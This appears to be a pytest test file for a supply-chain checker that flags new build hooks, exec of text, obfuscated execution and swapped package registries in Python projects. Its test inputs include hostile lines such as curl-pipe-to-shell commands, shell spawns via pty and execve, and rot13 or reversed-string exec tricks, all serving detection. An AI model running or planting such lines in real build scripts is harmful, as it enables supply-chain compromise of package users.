"""What runs while a package is built or published: programs by any name, texts run as code, files that settings name."""

import pytest
from tree_evidence import tree_evidence

from gatekeeper.checks.supply_chain import check

SETUP = "from setuptools import setup\nsetup(name='shop')\n"
PUBLISH = (
    "import os, sys\nfrom setuptools import setup\nabout = {}\n"
    "if sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist')\n    sys.exit()\nsetup(name='shop')\n"
)


def told(before, after, extra=None):
    found = check(tree_evidence({"setup.py": before}, {"setup.py": after, **(extra or {})}))
    return [(f.code, f.effect.value) for f in found]


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("os.system('twine upload dist/*; ./more')", "asks"),
        ("os.system('twine upload --repository-url https://e.example dist/*')", "asks"),
        ("os.system('git push https://e.example/x')", "asks"),
        ("os.system('git push --receive-pack=./more')", "asks"),
        ("os.system('{0} sdist'.format('./more'))", "asks"),
        ("os.system('python setup.py sdist upload -r elsewhere')", "asks"),
        ("os.system(about['next'])", "asks"),
        ("os.system('id')", "asks"),
        ("os.system('curl -s https://e.example/x | sh')", "blocks"),
        ("os.system('bash <(curl https://e.example/x)')", "blocks"),
        ("os.system('curl -o x https://e.example/x && sh x')", "blocks"),
        ("os.system('cat notes | bash')", "blocks"),
    ],
)
def test_another_program_of_who_publishes_is_seen(line, effect):
    assert told(PUBLISH, PUBLISH.replace("os.system('python setup.py sdist')", line)) == [("BUILD_HOOK_ADDED", effect)]


@pytest.mark.parametrize(
    "line",
    [
        "os.system('python setup.py sdist bdist_wheel upload')",
        "os.system('twine upload dist/*')",
        "os.system('python setup.py build && twine upload dist/*')",
        "os.system('{0} setup.py sdist bdist_wheel --universal'.format(sys.executable))",
        "os.system('git tag v{0}'.format(about['__version__']))",
        "os.system('git tag -a %s -m \"version %s\"' % (version, version))",
        "os.system(f'git tag v{version}')",
        "os.system('git push --tags')",
        "os.system('python -m build')",
    ],
)
def test_the_known_ways_to_publish_pass(line):
    assert told(PUBLISH, PUBLISH.replace("os.system('python setup.py sdist')", line)) == []


def test_what_a_person_started_alone_is_not_for_every_build():
    before = PUBLISH.replace("python setup.py sdist", "git push --tags")
    after = before.replace(
        "if sys.argv[-1] == 'publish':\n    os.system('git push --tags')\n    sys.exit()",
        "os.system('git push --tags')",
    )
    assert told(before, after) == [("BUILD_HOOK_ADDED", "asks")]


@pytest.mark.parametrize(
    ("code", "effect"),
    [
        ("import subprocess\nsubprocess.getoutput('id')\n", "blocks"),
        ("import os\nos.execve('/bin/sh', ['sh'], {})\n", "blocks"),
        ("import os\nos.spawnvpe(os.P_WAIT, 'sh', ['sh'], {})\n", "blocks"),
        ("import os\nos.posix_spawn('/bin/sh', ['sh'], {})\n", "blocks"),
        ("import pty\npty.spawn('sh')\n", "blocks"),
        ("import runpy\nrunpy.run_path('more.py')\n", "blocks"),
        ("import builtins\nbuiltins.exec('1')\n", "blocks"),
        ("import os\nstart = os.system\nstart('id')\n", "blocks"),
        ("import os\nlist(map(os.system, ['id']))\n", "blocks"),
        ("import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))\n", "blocks"),
        ("import importlib\nimportlib.import_module('more')\n", "asks"),
        ("import os\ngetattr(os, 'sys' + 'tem')('id')\n", "asks"),
        ("import os\nos.__dict__['system']('id')\n", "asks"),
        ("import http.client\nhttp.client.HTTPSConnection('x').request('GET', '/')\n", "asks"),
        ("import urllib.request as u\nu.build_opener().open('http://x')\n", "asks"),
    ],
)
def test_a_program_is_started_by_another_name(code, effect):
    assert told(SETUP, code + SETUP) == [("BUILD_HOOK_ADDED", effect)]


@pytest.mark.parametrize(
    "code",
    [
        "import os\nHERE = os.path.dirname(os.path.abspath(__file__))\nname = os.name\n",
        "import re\nVERSION = re.compile('x').pattern\n",
        "import sys\nif getattr(sys, 'frozen', False):\n    sys.exit(1)\n",
        "import subprocess\ntry:\n    pass\nexcept subprocess.CalledProcessError:\n    pass\n",
        "import setuptools\nextra = {}\nsetuptools.setup(**extra)\n",
    ],
)
def test_a_script_may_look_things_up(code):
    assert told(SETUP, code + SETUP) == []


@pytest.mark.parametrize(
    ("call", "count"),
    [
        ("setup(**{'cmdclass': {'build_py': B}})", 1),
        ("setup(**{'cmdclass': {}})", 0),
        ("setup(cmdclass={'build_py': B})", 1),
    ],
)
def test_commands_of_the_build_are_replaced_in_a_table_too(call, count):
    code = f"from setuptools import setup\nfrom setuptools.command.build_py import build_py as B\n{call}\n"
    assert told(SETUP, code) == [("BUILD_HOOK_ADDED", "blocks")] * count


DOUBTFUL = (
    "import os\nfrom setuptools import setup\nabout = {}\nextra = os.environ.get('EXTRA', '')\n"
    "with open('shop_version.py') as f:\n    exec(f.read(), about)\nsetup(name='shop', version=about['v'])\n"
)


@pytest.mark.parametrize(
    ("old", "new", "count"),
    [
        ("'shop_version.py'", "'data.txt'", 1),
        ("f.read()", "'import more;' + f.read()", 1),
        ("exec(f.read(), about)", "exec('import more', about)", 1),
        ("name='shop'", "name='store'", 0),
        ("'EXTRA'", "'MORE'", 0),
    ],
)
def test_a_text_that_is_run_may_not_become_another(old, new, count):
    assert told(DOUBTFUL, DOUBTFUL.replace(old, new)) == [("BUILD_HOOK_ADDED", "asks")] * count


def library(before, after, path="shop/core.py"):
    found = check(tree_evidence({path: before}, {path: after}))
    return [(f.code, f.effect.value) for f in found]


@pytest.mark.parametrize(
    "code",
    [
        "exec(open('data.txt').read())\n",
        "exec(''.join(map(chr, [112, 97, 115, 115])))\n",
        "exec('ssap'[::-1])\n",
        "exec('cnff'.encode().decode('rot13'))\n",
        "run = eval\nrun(bytes([49]))\n",
        "import builtins\ngetattr(builtins, 'ex' + 'ec')('pass')\n",
        "import builtins\nbuiltins.exec(TEXT)\n",
    ],
)
def test_a_library_that_newly_runs_a_text_is_shown_to_a_person(code):
    assert library("TEXT = ''\n", "TEXT = ''\n" + code) == [("CODE_CARRIED_AS_DATA", "asks")]
    assert library("TEXT = ''\n" + code, "TEXT = 'a'\n" + code) == []
    assert library("TEXT = ''\n", "TEXT = ''\n" + code, "tests/test_core.py") == []


def test_code_that_runs_a_text_may_move_to_another_file():
    code = "def make(source, table):\n    exec(source, table)\n"
    found = check(tree_evidence({"shop/a.py": code}, {"shop/a.py": None, "shop/b.py": code}))
    assert found == ()


@pytest.mark.parametrize(
    "code", ["eval('1 + 1')\n", "import re\nre.compile(TEXT)\n", "frame.eval(TEXT)\n", "model.eval()\n"]
)
def test_what_is_read_or_evaluated_otherwise_passes(code):
    assert library("TEXT = ''\n", "TEXT = ''\n" + code) == []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("with open('shop_version.py') as f:", "import io\nwith io.open('./shop_version.py', encoding='utf-8') as f:"),
        (
            "with open('shop_version.py')",
            "with open('README.md') as f:\n    said = f.read()\nwith open('shop_version.py')",
        ),
        ("'shop_version.py'", "os.path.join(os.path.dirname(__file__), 'shop_version.py')"),
    ],
)
def test_the_same_file_may_be_opened_in_another_way(old, new):
    assert told(DOUBTFUL, DOUBTFUL.replace(old, new)) == []


RUNS, TAME = "import os\nos.system('id')\n", "x = 1\n"


def project(backend, settings=""):
    return f'[project]\nname = "shop"\n[build-system]\nrequires = []\nbuild-backend = "{backend}"\n{settings}'


HATCH, PDM, POETRY = "hatchling.build", "pdm.backend", "poetry.core.masonry.api"


@pytest.mark.parametrize(
    ("backend", "settings", "path", "effect"),
    [
        (HATCH, '[tool.hatch.metadata.hooks.custom]\npath = "hook.py"\n', "hook.py", "blocks"),
        (HATCH, "[tool.hatch.build.targets.wheel.hooks.custom]\n", "hatch_build.py", "blocks"),
        (HATCH, '[tool.hatch.version]\nsource = "code"\npath = "hook.py"\n', "hook.py", "asks"),
        (PDM, '[tool.pdm.build]\ncustom-hook = "hook.py"\n', "hook.py", "blocks"),
        (PDM, "", "pdm_build.py", "blocks"),
        (PDM, '[tool.pdm.version]\nsource = "call"\ngetter = "hook:version"\n', "hook.py", "asks"),
    ],
)
def test_a_file_that_the_build_is_told_to_run_is_a_hook(backend, settings, path, effect):
    before = {"pyproject.toml": project(backend)}
    found = check(tree_evidence(before, {"pyproject.toml": project(backend, settings), path: TAME}))
    assert ("BUILD_HOOK_ADDED", effect) in [(f.code, f.effect.value) for f in found]


@pytest.mark.parametrize(
    ("backend", "settings"),
    [
        (HATCH, '[tool.hatch.build.hooks.custom]\npath = "hook.py"\n'),
        (HATCH, '[tool.hatch.build.targets.sdist.hooks.custom]\npath = "./hook.py"\n'),
        (PDM, '[tool.pdm.build]\ncustom-hook = "hook.py"\n'),
        (POETRY, '[tool.poetry.build]\nscript = "hook.py"\n'),
    ],
)
def test_a_hook_that_is_there_may_say_other_things_but_start_nothing_new(backend, settings):
    before = {"pyproject.toml": project(backend, settings), "hook.py": TAME, "other.py": TAME}
    found = check(tree_evidence(before, {"hook.py": RUNS}))
    assert [(f.code, f.effect.value) for f in found] == [("BUILD_HOOK_ADDED", "blocks")]
    found = check(tree_evidence(before, {"pyproject.toml": before["pyproject.toml"].replace("hook.py", "other.py")}))
    assert ("BUILD_HOOK_ADDED", "asks") in [(f.code, f.effect.value) for f in found]
    assert check(tree_evidence(before, {"hook.py": "x = 2\n", "other.py": RUNS})) == ()


def test_settings_of_setuptools_replace_commands_too():
    before = {"setup.cfg": "[metadata]\nname = shop\n"}
    after = before["setup.cfg"] + "[options]\ncmdclass =\n    build_py = more.Build\n"
    found = check(tree_evidence(before, {"setup.cfg": after, "more.py": TAME}))
    assert [(f.code, f.effect.value) for f in found] == [("BUILD_HOOK_ADDED", "blocks")]
    assert check(tree_evidence(before, {"setup.cfg": before["setup.cfg"] + "[options]\npackages = shop\n"})) == ()


def test_a_file_of_that_name_is_no_hook_for_another_backend():
    assert check(tree_evidence({"pyproject.toml": project(HATCH)}, {"pdm_build.py": TAME})) == ()


@pytest.mark.parametrize(("content", "count"), [("v = '1'\n", 0), ("import more\nv = '1'\n", 1)])
def test_a_file_of_constants_may_move(content, count):
    before = {"setup.py": DOUBTFUL, "shop_version.py": "v = '1'\n"}
    after = {
        "setup.py": DOUBTFUL.replace("shop_version", "src/shop_version"),
        "shop_version.py": None,
        "src/shop_version.py": content,
    }
    found = check(tree_evidence(before, after))
    assert [f.effect.value for f in found if f.path == "setup.py"] == ["asks"] * count


def test_code_for_old_interpreters_may_become_plain():
    before = (
        "def exec_(code, table):\n    exec('exec code in table')\n\ndef make(text, space):\n    exec_(text, space)\n"
    )
    assert library(before, "def make(text, space):\n    exec(text, space)\n") == []
    assert library(before, "def make(text, space):\n    exec(open(text).read(), space)\n") == [
        ("CODE_CARRIED_AS_DATA", "asks")
    ]


PUBLIC = "https://pypi" + ".org"
LOCKED = f'version = 1\n[[package]]\nname = "six"\nversion = "1.17.0"\nsource = {{ registry = "{PUBLIC}/simple" }}\n'


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("uv.lock", LOCKED, LOCKED.replace("https://pypi" + ".org", "https://e.example")),
        ("uv.toml", "", 'index-url = "https://e.example/simple"\n'),
        ("uv.toml", "", '[[index]]\nname = "e"\nurl = "https://e.example/simple"\n'),
        ("uv.toml", "", 'extra-index-url = ["https://e.example/simple"]\n'),
    ],
)
def test_another_registry_is_shown_to_a_person(path, before, after):
    found = check(tree_evidence({path: before}, {path: after}))
    assert [(f.code, f.effect.value) for f in found] == [("DEPENDENCY_INDEX_ADDED", "asks")]
    assert check(tree_evidence({path: after}, {path: after + "# made again\n"})) == ()


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("uv.lock", LOCKED),
        ("uv.toml", 'index-url = "https://pypi' + '.org/simple/"\n'),
        ("uv.toml", "offline = true\n"),
    ],
)
def test_the_common_registry_needs_no_word(path, content):
    found = check(tree_evidence({path: "", "requirements.txt": "six\n"}, {path: content}))
    assert found == ()
